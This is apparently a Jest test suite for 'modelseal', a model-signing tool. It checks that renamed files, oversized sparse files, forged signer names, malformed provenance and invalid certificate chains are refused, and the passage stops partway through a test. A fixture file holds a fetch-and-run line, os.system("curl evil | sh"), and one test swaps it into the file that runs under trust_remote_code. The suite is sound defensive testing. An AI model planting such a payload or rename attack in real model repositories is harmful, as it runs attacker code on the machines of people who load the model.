/**
 * One verdict (issue 13): every path that accepts an artifact makes the same complete
 * check, and no trust decision is steerable by the signer. Each case is an attack that
 * an earlier version accepted on at least one path.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes, X509Certificate } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { attestArtifact, createVerifier, digestArtifact, Gate, loadPrivateKey, signArtifact, verifyArtifact, verifyLocked } from '../src';
import { createRelease } from '../src/gate';
import { evaluateLineage } from '../src/lineage';
import { exportMlBom } from '../src/bom';
import { loadPolicy } from '../src/policy';
import { lockArtifact } from '../src/lock';
import * as matchFilesModule from '../src/verify/match-files';
import * as bundleFileModule from '../src/envelope/bundle-file';
import { loadPublicKey } from '../src/keys/load';
import { signStatementWithCertificate } from '../src/sign/certificate-signer';
import { buildOmsStatement } from '../src/statement/oms';
import { writeKeyPair } from '../src/keys/write';
import { buildProvenanceStatement, type Dependency } from '../src/statement/provenance';
import { parseRfc3339 } from '../src/util/rfc3339';
import { cli } from './helpers/cli';
import { bundleObject } from './helpers/hostile';
import { gateFixture, type GateFixture } from './helpers/gate-fixture';
import { refusal } from './helpers/refusal';
import { tmpDir, writeTree } from './helpers/tmp';

const root = tmpDir('modelseal-one-verdict-');
const p = (...parts: string[]) => path.join(root, ...parts);
fs.mkdirSync(p('keys'));
const keys = Object.fromEntries(
  (['publisher', 'trainer', 'community'] as const).map((who) => {
    writeKeyPair(p('keys', who), 'ecdsa-p256');
    return [who, loadPrivateKey(p('keys', `${who}.key`))];
  }),
) as Record<'publisher' | 'trainer' | 'community', ReturnType<typeof loadPrivateKey>>;

function writePolicy(name: string, body: string): string {
  const file = p(name);
  fs.writeFileSync(file, `apiVersion: modelseal.dev/policy/v1\n${body}`);
  return file;
}

/** A remote-code model: under trust_remote_code, modeling_custom.py is what runs. */
async function remoteCodeModel(dir: string): Promise<string> {
  writeTree(dir, {
    'config.json': '{"auto_map": {"AutoModel": "modeling_custom.MyModel"}}',
    'helper.py': 'import os\nos.system("curl evil | sh")  # signed, never imported by the real model\n',
    'modeling_custom.py': 'class MyModel: pass\n',
  });
  await signArtifact(dir, { key: keys.publisher });
  return dir;
}

/**
 * Renames keeping the sorted order of the digests, so the OMS root digest (which does not
 * cover names) is unchanged: modeling_custom.py now holds the helper's code.
 */
function swapNames(dir: string): void {
  fs.renameSync(path.join(dir, 'modeling_custom.py'), path.join(dir, 'modeling_x.py'));
  fs.renameSync(path.join(dir, 'helper.py'), path.join(dir, 'modeling_custom.py'));
}

describe('renamed files are refused on every accepting path', () => {
  let model: string;
  let policyFile: string;
  beforeAll(async () => {
    model = await remoteCodeModel(p('renamed', 'remote-code'));
    swapNames(model);
    policyFile = writePolicy('renamed-policy.yaml', `signers:\n  publisher: { keys: [keys/publisher.pub] }\nartifacts:\n  - { name: "**", signers: [publisher] }\nchannels:\n  prod: { signers: [publisher], threshold: 1 }\n`);
  });

  it('the root digest is unchanged by the swap (the attack is real)', async () => {
    const clean = await remoteCodeModel(p('renamed', 'clean'));
    const a = cli(['digest', clean, '--json']).json.digest;
    const b = cli(['digest', model, '--json']).json.digest;
    expect(b).toBe(a);
  });

  it('verify --key and verify --policy', () => {
    for (const args of [['--key', p('keys', 'publisher.pub')], ['--policy', policyFile]]) {
      const r = cli(['verify', model, ...args, '--json']);
      expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'ARTIFACT_MISMATCH' });
      expect(r.json.error.message).toMatch(/missing: "helper.py".*extra \(unsigned\): "modeling_x.py"/);
    }
  });

  it('lineage, bom and the library evaluation', async () => {
    const policy = loadPolicy(policyFile);
    const r = await evaluateLineage(model, policy, {});
    expect(r.ok).toBe(false);
    expect(r.error?.code).toBe('ARTIFACT_MISMATCH');
    expect((await refusal(exportMlBom(model, policy, {}))).code).toBe('ARTIFACT_MISMATCH');
    expect(cli(['lineage', model, '--policy', policyFile]).status).toBe(1);
  });

  it('lock verify and the gate', async () => {
    const clean = await remoteCodeModel(p('renamed', 'to-lock'));
    const lock = p('renamed', 'modelseal.lock');
    await lockArtifact('acme/remote-code', clean, { lock, keys: [p('keys', 'publisher.pub')] });
    swapNames(clean);
    expect((await refusal(verifyLocked('acme/remote-code', clean, { lock }))).code).toBe('ARTIFACT_MISMATCH');

    const release = await remoteCodeModel(p('renamed', 'release', 'remote-code'));
    const env = await createRelease([release], { channel: 'prod', version: 1, expires: '7d', key: keys.publisher });
    swapNames(release);
    const gate = new Gate(policyFile, p('renamed', 'state'), { channel: 'prod', init: true });
    expect((await refusal(gate.check(env.envelope, [release]))).code).toBe('ARTIFACT_MISMATCH');
  });

  it('every accepting entry point asks the one files-vs-manifest module', async () => {
    const spy = jest.spyOn(matchFilesModule, 'matchFiles');
    const clean = await remoteCodeModel(p('renamed', 'spy'));
    const policy = loadPolicy(policyFile);
    const calls: Record<string, number> = {};
    const count = async (name: string, run: () => Promise<unknown>) => {
      spy.mockClear();
      await run().catch(() => undefined); // accepted or refused later, the files were asked about first
      calls[name] = spy.mock.calls.length;
    };
    await count('verifyArtifact', () => verifyArtifact(clean, { keys: p('keys', 'publisher.pub') }));
    await count('evaluateLineage', () => evaluateLineage(clean, policy, {}));
    await count('exportMlBom', () => exportMlBom(clean, policy, {}));
    const lock = p('renamed', 'spy.lock');
    await lockArtifact('acme/spy', clean, { lock, keys: [p('keys', 'publisher.pub')] });
    await count('verifyLocked', () => verifyLocked('acme/spy', clean, { lock }));
    const env = await createRelease([clean], { channel: 'prod', version: 1, expires: '7d', key: keys.publisher });
    await count('Gate.check', () => new Gate(policy, p('renamed', 'spy-state'), { channel: 'prod', init: true }).check(env.envelope, [clean]));
    spy.mockRestore();
    for (const [name, n] of Object.entries(calls)) expect({ name, routed: n > 0 }).toEqual({ name, routed: true });
  });
});

describe('names before bytes', () => {
  function bytesRead(): number {
    return Number(/rchar: (\d+)/.exec(fs.readFileSync('/proc/self/io', 'utf8'))?.[1]);
  }

  it('an unsigned 1 TiB sparse file is refused without reading it', async () => {
    const dir = writeTree(p('sparse', 'model'), { 'config.json': '{}', 'w.bin': randomBytes(4096) });
    await signArtifact(dir, { key: keys.publisher });
    const big = path.join(dir, 'extra.bin');
    const fd = fs.openSync(big, 'w');
    fs.ftruncateSync(fd, 2 ** 40);
    fs.closeSync(fd);
    const before = bytesRead();
    const e = await refusal(verifyArtifact(dir, { keys: p('keys', 'publisher.pub') }));
    expect(e.code).toBe('ARTIFACT_MISMATCH');
    expect(e.message).toContain('extra (unsigned): "extra.bin"');
    expect(bytesRead() - before).toBeLessThan(16 * 1024 * 1024);
    // Allowed unsigned files are never hashed either.
    const skipped = bytesRead();
    await verifyArtifact(dir, { keys: p('keys', 'publisher.pub'), ignoreUnsignedFiles: true });
    expect(bytesRead() - skipped).toBeLessThan(16 * 1024 * 1024);
  });

  it('a file resized past its signed shard ranges is refused before hashing', async () => {
    const dir = writeTree(p('sparse', 'sharded'), { 'w.bin': randomBytes(10_000) });
    await signArtifact(dir, { key: keys.publisher, method: 'shards', shardSize: 4096 });
    fs.truncateSync(path.join(dir, 'w.bin'), 2 ** 40);
    const before = bytesRead();
    const e = await refusal(verifyArtifact(dir, { keys: p('keys', 'publisher.pub') }));
    expect(e.code).toBe('ARTIFACT_MISMATCH');
    expect(e.message).toContain('changed: "w.bin"');
    expect(bytesRead() - before).toBeLessThan(16 * 1024 * 1024);
  });
});

describe('names before bytes on the policy paths: who signed, and what is bound, before any hashing', () => {
  const bytesRead = () => Number(/rchar: (\d+)/.exec(fs.readFileSync('/proc/self/io', 'utf8'))?.[1]);
  const terabyte = (file: string) => {
    fs.writeFileSync(file, '', { flag: 'a' });
    fs.truncateSync(file, 2 ** 40);
  };
  const policyFile = () => writePolicy('before-bytes.yaml', `signers:\n  publisher: { keys: [keys/publisher.pub] }\nartifacts:\n  - { name: "**", signers: [publisher] }\nchannels:\n  prod: { signers: [publisher], threshold: 1 }\n`);
  /** Runs a refusal and returns its code, failing if it read more than 16 MiB (the 1 TiB file was hashed). */
  async function refusedUnread(run: () => Promise<unknown>): Promise<string> {
    const before = bytesRead();
    const code = (await refusal(run())).code;
    expect({ code, read: bytesRead() - before < 16 * 1024 * 1024 }).toEqual({ code, read: true });
    return code;
  }

  it('a signature by a key the policy does not know is refused before its files are hashed', async () => {
    const dir = writeTree(p('before-bytes', 'forged'), { 'config.json': '{}', 'w.bin': 'small' });
    await signArtifact(dir, { key: keys.community });
    terabyte(path.join(dir, 'w.bin'));
    const policy = loadPolicy(policyFile());
    expect(await refusedUnread(() => evaluateLineage(dir, policy, {}).then((r) => (r.ok ? r : Promise.reject(r.error))))).toBe('UNTRUSTED_SIGNER');
    expect(await refusedUnread(() => verifyArtifact(dir, { policy }))).toBe('UNTRUSTED_SIGNER');
    expect(await refusedUnread(() => exportMlBom(dir, policy, {}))).toBe('UNTRUSTED_SIGNER');
  });

  it('an artifact with no signature, and nowhere to look for one, is refused before hashing', async () => {
    const dir = writeTree(p('before-bytes', 'unsigned'), { 'config.json': '{}' });
    terabyte(path.join(dir, 'w.bin'));
    const policy = loadPolicy(policyFile());
    expect(await refusedUnread(() => verifyArtifact(dir, { policy }))).toBe('SIGNATURE_NOT_FOUND');
    // An attestation folder holding only bundles no policy signer made gives nothing to look up.
    const dropped = writeTree(p('before-bytes', 'dropped'), { 'x.bin': 'x' });
    await signArtifact(dropped, { key: keys.community, signature: p('before-bytes', 'attestations', 'x.sig') });
    expect(await refusedUnread(() => verifyArtifact(dir, { policy, attestations: [p('before-bytes', 'attestations')] }))).toBe('SIGNATURE_NOT_FOUND');
  });

  it('a --with artifact without a signature is not hashed before the artifact that needs it verified', async () => {
    const { adapter, base, policy } = await adapterOnBase('with-unsigned');
    fs.rmSync(path.join(base, 'model.sig'));
    terabyte(path.join(base, 'w.bin'));
    await signArtifact(adapter, { key: keys.community, force: true });
    expect(await refusedUnread(() => verifyArtifact(adapter, { policy, with: [base] }))).toBe('UNTRUSTED_SIGNER');
  });

  /** An adapter trained on a base: the adapter signed and attested by the trainer, the base signed by the publisher (a root). */
  async function adapterOnBase(name: string): Promise<{ adapter: string; base: string; policy: ReturnType<typeof loadPolicy> }> {
    const policy = loadPolicy(writePolicy(`${name}.yaml`, `signers:\n  publisher: { keys: [keys/publisher.pub] }\n  trainer: { keys: [keys/trainer.pub] }\nartifacts:\n  - { name: "adapter", signers: [trainer], lineage: required, roots: [publisher] }\n  - { name: "**", signers: [publisher] }\n`));
    const base = writeTree(p('before-bytes', name, 'base'), { 'config.json': '{"base": true}' });
    await signArtifact(base, { key: keys.publisher });
    const adapter = writeTree(p('before-bytes', name, 'adapter'), { 'adapter.bin': 'lora' });
    await signArtifact(adapter, { key: keys.trainer });
    await attestArtifact(adapter, { kind: 'lora', key: keys.trainer, bases: [base] });
    return { adapter, base, policy };
  }

  it('a --with artifact that does not match its own signature is not hashed to find its digest', async () => {
    const { adapter, base, policy } = await adapterOnBase('with-extra');
    await expect(verifyArtifact(adapter, { policy, with: [base] })).resolves.toMatchObject({ verified: true });
    terabyte(path.join(base, 'unsigned.bin'));
    expect(await refusedUnread(() => verifyArtifact(adapter, { policy, with: [base] }))).toBe('ARTIFACT_MISMATCH');
  });

  it('the gate refuses an artifact whose signature claims another digest than the record binds, before hashing', async () => {
    const dir = writeTree(p('before-bytes', 'release', 'model'), { 'config.json': '{}', 'w.bin': 'v1' });
    await signArtifact(dir, { key: keys.publisher });
    const env = await createRelease([dir], { channel: 'prod', version: 1, expires: '7d', key: keys.publisher });
    fs.writeFileSync(path.join(dir, 'w.bin'), 'v2');
    await signArtifact(dir, { key: keys.publisher, force: true });
    terabyte(path.join(dir, 'w.bin'));
    const gate = new Gate(policyFile(), p('before-bytes', 'state'), { channel: 'prod', init: true });
    expect(await refusedUnread(() => gate.check(env.envelope, [dir]))).toBe('RELEASE_MISMATCH');
  });

  it('a signature beside the artifact is read once, and verified in that read', async () => {
    const dir = writeTree(p('before-bytes', 'read-once'), { 'w.bin': 'w' });
    await signArtifact(dir, { key: keys.publisher });
    const spy = jest.spyOn(bundleFileModule, 'readSignatureFileContent');
    try {
      await expect(verifyArtifact(dir, { policy: loadPolicy(policyFile()) })).resolves.toMatchObject({ verified: true });
      expect(spy.mock.calls.filter(([file]) => path.resolve(file) === path.join(dir, 'model.sig')).length).toBe(1);
    } finally {
      spy.mockRestore();
    }
  });

  it('a policy verifier refuses the options a policy does not heed, as verifyArtifact does', async () => {
    const dir = writeTree(p('before-bytes', 'options'), { 'w.bin': 'w' });
    await signArtifact(dir, { key: keys.publisher });
    const policy = loadPolicy(policyFile());
    const verifier = createVerifier({ policy });
    await expect(verifier.verify(dir)).resolves.toMatchObject({ verified: true });
    for (const options of [{ ignoreUnsignedFiles: true }, { ignorePaths: ['w.bin'] }, { part: { index: 0, count: 2 } }]) {
      expect((await refusal(verifier.verify(dir, options as never))).code).toBe('USAGE_ERROR');
      expect((await refusal(verifyArtifact(dir, { policy, ...options } as never))).code).toBe('USAGE_ERROR');
    }
  });

  it('a copy given with --with under the digest of a verified one is not taken as verified', async () => {
    const { adapter, base, policy } = await adapterOnBase('twins');
    const copy = p('before-bytes', 'twins', 'copy');
    fs.cpSync(base, copy, { recursive: true });
    fs.writeFileSync(path.join(copy, 'config.json'), '{"base": "changed"}');
    const e = await refusal(verifyArtifact(adapter, { policy, with: [base, copy] }));
    expect(e.code).toBe('LINEAGE_MISMATCH');
    expect(e.file).toBe(path.resolve(copy));
  });
});

describe('files signed under a default ignore', () => {
  it('are checked, not ignored, on every path: a Hugging Face .gitattributes signed with --no-default-ignores', async () => {
    const dir = writeTree(p('default-ignores', 'model'), { '.gitattributes': '*.bin filter=lfs\n', 'w.bin': 'weights', '.git/HEAD': 'ref: main\n' });
    await signArtifact(dir, { key: keys.publisher, noDefaultIgnores: true, ignorePaths: ['.git'] });
    const policy = loadPolicy(writePolicy('default-ignores.yaml', `signers:\n  publisher: { keys: [keys/publisher.pub] }\nartifacts:\n  - { name: "**", signers: [publisher] }\n`));
    await expect(verifyArtifact(dir, { keys: p('keys', 'publisher.pub') })).resolves.toMatchObject({ verified: true });
    await expect(verifyArtifact(dir, { policy })).resolves.toMatchObject({ verified: true });
    fs.writeFileSync(path.join(dir, '.gitattributes'), '*.bin -filter\n');
    for (const run of [() => verifyArtifact(dir, { keys: p('keys', 'publisher.pub') }), () => verifyArtifact(dir, { policy })]) {
      const e = await refusal(run());
      expect({ code: e.code, changed: e.message.includes('changed: ".gitattributes"') }).toEqual({ code: 'ARTIFACT_MISMATCH', changed: true });
    }
    // Default ignores the signature lists nothing under still apply: .github is not walked.
    fs.writeFileSync(path.join(dir, '.gitattributes'), '*.bin filter=lfs\n');
    writeTree(path.join(dir, '.github'), { 'ci.yml': 'x' });
    await expect(verifyArtifact(dir, { keys: p('keys', 'publisher.pub') })).resolves.toMatchObject({ verified: true });
    expect(cli(['verify', dir, '--policy', p('default-ignores.yaml'), '--no-default-ignores']).status).toBe(2);
  });
});

describe('the gate guards the channel it is told to', () => {
  let fx: GateFixture;
  beforeAll(() => {
    fx = gateFixture();
  });

  it('a record signed by the single dev key is refused by the prod gate (CHANNEL_MISMATCH)', async () => {
    const model = await fx.artifact('model', 'v1');
    const dev = await createRelease([model], { channel: 'dev', version: 99, expires: '7d', key: fx.keys.k1 });
    const e = await refusal(new Gate(fx.policyFile, fx.stateDir, { channel: 'prod', init: true }).check(dev.envelope, [model]));
    expect(e.code).toBe('CHANNEL_MISMATCH');
    const file = path.join(fx.root, 'dev-release.json');
    fs.writeFileSync(file, dev.json);
    const r = cli(['gate', '--channel', 'prod', '--policy', fx.policyFile, '--state', fx.stateDir, '--release', file, model, '--init', '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'CHANNEL_MISMATCH' });
    const missing = cli(['gate', '--policy', fx.policyFile, '--state', fx.stateDir, '--release', file, model]);
    expect(missing.status).toBe(2);
    expect(() => new Gate(fx.policyFile, fx.stateDir, {} as never)).toThrow(/channel/);
  });
});

describe('one key, one identity', () => {
  const compressed = p('keys', 'publisher-compressed.pub');
  beforeAll(() => {
    execFileSync('openssl', ['ec', '-pubin', '-in', p('keys', 'publisher.pub'), '-conv_form', 'compressed', '-pubout', '-out', compressed], { stdio: 'ignore' });
  });

  it('a compressed-point key is the same key: it verifies genuine signatures and has one identity', async () => {
    expect(fs.readFileSync(compressed, 'utf8')).not.toBe(fs.readFileSync(p('keys', 'publisher.pub'), 'utf8'));
    const a = loadPublicKey(compressed);
    const b = loadPublicKey(p('keys', 'publisher.pub'));
    expect(a.id).toBe(b.id);
    expect(a.hint).toBe(b.hint);
    const dir = await remoteCodeModel(p('keys-model'));
    const r = cli(['verify', dir, '--key', compressed, '--json']);
    expect(r.status).toBe(0);
  });

  it('counts once toward a threshold, whatever its encoding or signer name', () => {
    const file = writePolicy('twice.yaml', `signers:\n  a: { keys: [keys/publisher.pub] }\n  b: { keys: [keys/publisher-compressed.pub] }\nchannels:\n  prod: { signers: [a, b], threshold: 2 }\n`);
    const r = cli(['policy', 'check', file, '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 2, code: 'POLICY_INVALID' });
    expect(r.json.error.message).toContain('threshold 2 is more than the 1 distinct key(s)');
  });

  it('a key listed under two signer names counts for the one the rule allows', async () => {
    const file = writePolicy('two-names.yaml', `signers:\n  vendor: { keys: [keys/publisher.pub] }\n  release-team: { keys: [keys/publisher-compressed.pub] }\nartifacts:\n  - { name: "**", signers: [release-team] }\n`);
    const dir = await remoteCodeModel(p('two-names', 'model'));
    const r = cli(['verify', dir, '--policy', file, '--json']);
    expect(r.status).toBe(0);
    expect(r.json.nodes[0].signers.map((s: { signer: string }) => s.signer)).toEqual(['release-team']);
  });
});

describe('provenance is checked when verifying, not only when attesting', () => {
  const policyBody = `signers:\n  trainer: { keys: [keys/trainer.pub] }\n  publisher: { keys: [keys/publisher.pub] }\nartifacts:\n  - { name: "adapter*", signers: [trainer], kinds: [lora], lineage: required, roots: [publisher] }\n`;
  async function craftedAdapter(name: string, deps: Dependency[], times: { startedOn?: string; finishedOn?: string } = {}): Promise<string> {
    const dir = writeTree(p('crafted', name), { 'adapter_model.safetensors': randomBytes(1024) });
    const { rootDigest } = await signArtifact(dir, { key: keys.trainer });
    const statement: any = JSON.parse(JSON.stringify(buildProvenanceStatement({ subjectName: name, rootDigest, kind: 'lora', dependencies: deps, builderId: 'https://ci.example/x' })));
    Object.assign(statement.predicate.runDetails.metadata, times);
    fs.writeFileSync(path.join(dir, 'provenance.sig'), JSON.stringify(bundleObject(statement, keys.trainer)));
    return dir;
  }

  it('a lora provenance that binds no base model is refused', async () => {
    const file = writePolicy('lora.yaml', policyBody);
    const dir = await craftedAdapter('adapter-unbound', []);
    const r = cli(['verify', dir, '--policy', file, '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'STATEMENT_INVALID' });
    expect(r.json.error.message).toContain('kind lora needs exactly 1 base model(s), got 0');
  });

  it.each([
    ['a finish far in the future', { finishedOn: '2999-01-01T00:00:00Z' }, 'TIME_INVALID'],
    ['a start after the finish', { startedOn: '2026-01-02T00:00:00Z', finishedOn: '2026-01-01T00:00:00Z' }, 'TIME_INVALID'],
    ['February 30th', { finishedOn: '2026-02-30T00:00:00Z' }, 'STATEMENT_INVALID'],
    ['hour 24', { finishedOn: '2026-03-01T24:00:00Z' }, 'STATEMENT_INVALID'],
  ])('%s is refused', async (_what, times, code) => {
    const file = writePolicy('times.yaml', policyBody);
    const dir = await craftedAdapter(`adapter-${Object.values(times).join('').replace(/[^0-9]/g, '')}`, [{ role: 'base_model', sha256: 'ab'.repeat(32), name: 'base' }], times);
    const r = cli(['verify', dir, '--policy', file, '--lineage', '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code });
  });

  it('the strict RFC 3339 reader refuses what Date.parse bends', () => {
    for (const bad of ['2026-02-29T00:00:00Z', '2026-04-31T00:00:00Z', '2026-01-01T23:59:60Z', '2026-01-01t00:00:00z', '2026-01-01T00:00:00', '2026-01-01 00:00:00Z', '+002026-01-01T00:00:00Z']) {
      expect({ bad, parsed: parseRfc3339(bad) }).toEqual({ bad, parsed: undefined });
    }
    expect(parseRfc3339('2024-02-29T12:00:00.5+01:30')?.toISOString()).toBe('2024-02-29T10:30:00.500Z');
    expect(parseRfc3339('0099-01-01T00:00:00Z')?.getUTCFullYear()).toBe(99);
  });
});

describe('the rule is chosen by the deployer, never by the signer', () => {
  let policyFile: string;
  let adapter: string;
  beforeAll(async () => {
    policyFile = writePolicy('rules.yaml', `signers:\n  trainer: { keys: [keys/trainer.pub] }\n  community: { keys: [keys/community.pub] }\nartifacts:\n  - { name: "adapter*", signers: [trainer] }\n  - { name: "**", signers: [community] }\n`);
    adapter = writeTree(p('rules', 'adapter-x'), { 'adapter_model.safetensors': randomBytes(512) });
    // A community key signs the adapter under a name that only the lenient rule matches.
    const statement = JSON.parse(cli(['digest', adapter, '--json']).stdout);
    expect(statement.ok).toBe(true);
    await signArtifact(adapter, { key: keys.community });
    const sig = JSON.parse(fs.readFileSync(path.join(adapter, 'model.sig'), 'utf8'));
    const payload = JSON.parse(Buffer.from(sig.dsseEnvelope.payload, 'base64').toString());
    payload.subject[0].name = 'instruct-v2';
    fs.writeFileSync(path.join(adapter, 'model.sig'), JSON.stringify(bundleObject(payload, keys.community)));
  });

  it('without --name, a signed name that picks another rule than the path is ambiguous', () => {
    const r = cli(['verify', adapter, '--policy', policyFile, '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'RULE_AMBIGUOUS' });
    expect(r.json.error.message).toContain('"instruct-v2"');
  });

  it('with --name, the deployer’s name picks the rule and the community key is not allowed', () => {
    const r = cli(['verify', adapter, '--policy', policyFile, '--name', 'adapter-x', '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'UNTRUSTED_SIGNER' });
    const lenient = cli(['verify', adapter, '--policy', policyFile, '--name', 'instruct-v2', '--json']);
    expect(lenient.status).toBe(0); // the deployer said what it is
  });
});

describe('policy files have one reading', () => {
  it.each([
    ['1 and "1"', 'channels:\n  1: { signers: [a], threshold: 1 }\n  "1": { signers: [a], threshold: 1 }\n'],
    ['true and "true"', 'channels:\n  true: { signers: [a], threshold: 1 }\n  "true": { signers: [a], threshold: 1 }\n'],
  ])('keys %s in one mapping are refused, naming both lines', (_what, channels) => {
    const file = writePolicy(`collide-${randomBytes(3).toString('hex')}.yaml`, `signers:\n  a: { keys: [keys/publisher.pub] }\n${channels}`);
    const r = cli(['policy', 'check', file, '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 2, code: 'POLICY_INVALID' });
    expect(r.json.error.message).toMatch(/keys on lines 5 and 6 are the same string/);
  });
});

describe('X.509 chains are validated per RFC 5280, agreeing with openssl verify', () => {
  const dir = p('pki');
  const ossl = (...args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
  const opensslAccepts = (leaf: string, root: string, untrusted: string[]) => {
    const bundle = path.join(dir, `untrusted-${randomBytes(3).toString('hex')}.pem`);
    fs.writeFileSync(bundle, untrusted.map((f) => fs.readFileSync(path.join(dir, f), 'utf8')).join(''));
    return spawnSync('openssl', ['verify', '-CAfile', root, ...(untrusted.length ? ['-untrusted', bundle] : []), leaf], { cwd: dir }).status === 0;
  };
  function ca(name: string, issuer: string | null, ext: string[], basicConstraints = 'critical,CA:TRUE', days = 3650): void {
    ossl('genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', `${name}.key`);
    const cnf = `${name}.cnf`;
    fs.writeFileSync(path.join(dir, cnf), `[x]\n${[`basicConstraints=${basicConstraints}`, 'keyUsage=critical,keyCertSign', ...ext].join('\n')}\n`);
    if (issuer === null) {
      const addext = [`basicConstraints=${basicConstraints}`, 'keyUsage=critical,keyCertSign', ...ext].flatMap((e) => ['-addext', e]);
      ossl('req', '-x509', '-new', '-key', `${name}.key`, '-subj', `/CN=${name}`, '-days', String(days), ...addext, '-out', `${name}.pem`);
    } else {
      ossl('req', '-new', '-key', `${name}.key`, '-subj', `/CN=${name}`, '-out', `${name}.csr`);
      ossl('x509', '-req', '-in', `${name}.csr`, '-CA', `${issuer}.pem`, '-CAkey', `${issuer}.key`, '-CAcreateserial', '-days', String(days), '-extfile', cnf, '-extensions', 'x', '-out', `${name}.pem`);
    }
  }
  function leaf(name: string, issuer: string, ext: string[], dates?: [string, string]): void {
    ossl('genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', `${name}.key`);
    ossl('req', '-new', '-key', `${name}.key`, '-subj', `/CN=${name}`, '-out', `${name}.csr`);
    fs.writeFileSync(path.join(dir, `${name}.cnf`), `[x]\n${['basicConstraints=critical,CA:FALSE', 'keyUsage=critical,digitalSignature', 'extendedKeyUsage=codeSigning', ...ext].join('\n')}\n`);
    if (!dates) {
      ossl('x509', '-req', '-in', `${name}.csr`, '-CA', `${issuer}.pem`, '-CAkey', `${issuer}.key`, '-CAcreateserial', '-days', '365', '-extfile', `${name}.cnf`, '-extensions', 'x', '-out', `${name}.pem`);
      return;
    }
    const db = path.join(dir, `${name}-db`);
    fs.mkdirSync(db);
    fs.writeFileSync(path.join(db, 'index.txt'), '');
    fs.writeFileSync(path.join(db, 'serial'), '1000\n');
    fs.writeFileSync(
      path.join(dir, `${name}-ca.cnf`),
      `[ca]\ndefault_ca=d\n[d]\ndatabase=${db}/index.txt\nserial=${db}/serial\nnew_certs_dir=${db}\ndefault_md=sha256\npolicy=p\nunique_subject=no\n[p]\ncommonName=supplied\n`,
    );
    ossl('ca', '-batch', '-config', `${name}-ca.cnf`, '-cert', `${issuer}.pem`, '-keyfile', `${issuer}.key`, '-in', `${name}.csr`, '-startdate', dates[0], '-enddate', dates[1], '-extfile', `${name}.cnf`, '-extensions', 'x', '-out', `${name}.pem`, '-notext');
  }
  /** Signs today with the leaf's key, whatever its validity (an attacker holding an old key does). */
  async function verifyWith(leafName: string, chain: string[], extra: { validAtNotBefore?: boolean } = {}) {
    const model = writeTree(p('pki-models', `${leafName}-${randomBytes(3).toString('hex')}`), { 'w.bin': randomBytes(256) });
    const certs = [leafName, ...chain].map((c) => new X509Certificate(fs.readFileSync(path.join(dir, `${c}.pem`))));
    const statement = buildOmsStatement(await digestArtifact(model), path.basename(model));
    fs.writeFileSync(path.join(model, 'model.sig'), signStatementWithCertificate(statement, loadPrivateKey(path.join(dir, `${leafName}.key`)), certs));
    return verifyArtifact(model, { signers: [{ kind: 'ca', roots: path.join(dir, 'root.pem'), ...extra }] });
  }

  beforeAll(() => {
    fs.mkdirSync(dir, { recursive: true });
    ca('root', null, []);
    ca('i1', 'root', [], 'critical,CA:TRUE,pathlen:0');
    ca('i2', 'i1', []);
    leaf('deep', 'i2', []);
    ca('nc', 'root', ['nameConstraints=critical,permitted;DNS:example.com']);
    leaf('in-name', 'nc', ['subjectAltName=DNS:models.example.com']);
    leaf('out-of-name', 'nc', ['subjectAltName=DNS:evil.org']);
    ca('plain', 'root', []);
    leaf('expired', 'plain', [], ['20200101000000Z', '20210101000000Z']);
  });

  it('a pathLenConstraint of 0 forbids a second intermediate', async () => {
    expect(opensslAccepts('deep.pem', 'root.pem', ['i2.pem', 'i1.pem'])).toBe(false);
    const e = await refusal(verifyWith('deep', ['i2', 'i1']));
    expect(e.code).toBe('CERTIFICATE_INVALID');
    expect(e.message).toContain('pathLenConstraint');
  });

  it('name constraints: a leaf inside the permitted names verifies, one outside is refused', async () => {
    expect(opensslAccepts('in-name.pem', 'root.pem', ['nc.pem'])).toBe(true);
    expect(opensslAccepts('out-of-name.pem', 'root.pem', ['nc.pem'])).toBe(false);
    await expect(verifyWith('in-name', ['nc'])).resolves.toMatchObject({ method: 'certificate' });
    const e = await refusal(verifyWith('out-of-name', ['nc']));
    expect(e.code).toBe('CERTIFICATE_INVALID');
    expect(e.message).toContain('outside its permitted names');
  });

  it('a leaf that expired years ago does not verify a bundle signed today', async () => {
    expect(opensslAccepts('expired.pem', 'root.pem', ['plain.pem'])).toBe(false);
    const e = await refusal(verifyWith('expired', ['plain']));
    expect(e.code).toBe('CERTIFICATE_INVALID');
    expect(e.message).toContain('(now;');
    // model_signing's reading judges the chain at the leaf's notBefore (2020), before these CAs existed.
    const legacy = await refusal(verifyWith('expired', ['plain'], { validAtNotBefore: true }));
    expect(legacy.message).toContain('2020-01-01T00:00:00.000Z (the signing time)');
  });
});

describe('legacy statements only where model_signing wrote them', () => {
  it('a Digests v0.1 statement in a key bundle is refused', async () => {
    const dir = writeTree(p('legacy', 'm'), { 'w.bin': 'x' });
    const digest = cli(['digest', dir, '--json']).json.digest.slice(7);
    const statement = { _type: 'https://in-toto.io/Statement/v1', subject: [{ name: 'm', digest: { sha256: digest } }], predicateType: 'https://model_signing/Digests/v0.1', predicate: {} };
    fs.writeFileSync(path.join(dir, 'model.sig'), JSON.stringify(bundleObject(statement, keys.publisher)));
    const r = cli(['verify', dir, '--key', p('keys', 'publisher.pub'), '--json']);
    expect({ status: r.status, code: r.json.error.code }).toEqual({ status: 1, code: 'STATEMENT_INVALID' });
  });
});

describe('attesting an unsigned artifact signs its files too', () => {
  it('so a provenance-only artifact cannot be renamed past lineage verification', async () => {
    const base = writeTree(p('attest-signs', 'base-7b'), { 'model.safetensors': randomBytes(1024) });
    await signArtifact(base, { key: keys.publisher });
    const adapter = await remoteCodeModel(p('attest-signs', 'adapter'));
    fs.rmSync(path.join(adapter, 'model.sig'));
    const r = await attestArtifact(adapter, { kind: 'lora', key: keys.trainer, bases: [base] });
